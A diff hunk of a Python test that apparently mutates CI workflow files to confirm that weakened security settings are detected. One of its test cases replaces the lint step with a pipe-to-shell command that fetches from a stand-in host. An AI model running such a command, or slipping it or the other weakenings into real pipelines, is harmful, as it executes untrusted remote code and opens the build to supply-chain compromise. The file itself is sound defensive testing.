@@ -34,7 +34,7 @@ def test_the_workflows_keep_to_it() -> None:
         ("release.yml", "      id-token: write # trusted", "      id-token: none # trusted", "release.yml: publish"),
         ("release.yml", "    timeout-minutes: 30\n", "", "release.yml: publish: no time limit"),
         ("ci.yml", "  pull_request:\n", "  pull_request_target:\n", "ci.yml: on"),
-        ("ci.yml", "needs: [lint, deny, tests, wheels, gate]\n", "needs: [deny, tests, wheels, gate]\n", "ci.yml: done: needs"),
+        ("ci.yml", "needs: [lint, deny, ", "needs: [deny, ", "ci.yml: done: needs"),
         ("ci.yml", "-s lint\n", "-s lint\n        continue-on-error: true\n", "ci.yml: lint: continue-on-error"),
         ("ci.yml", "python3 noxfile.py -s lint\n", "curl example.invalid | sh\n", "ci.yml: lint: run"),
         ("ci.yml", "      contents: read # checkout\n", "      packages: read\n", "ci.yml: lint: permissions"),
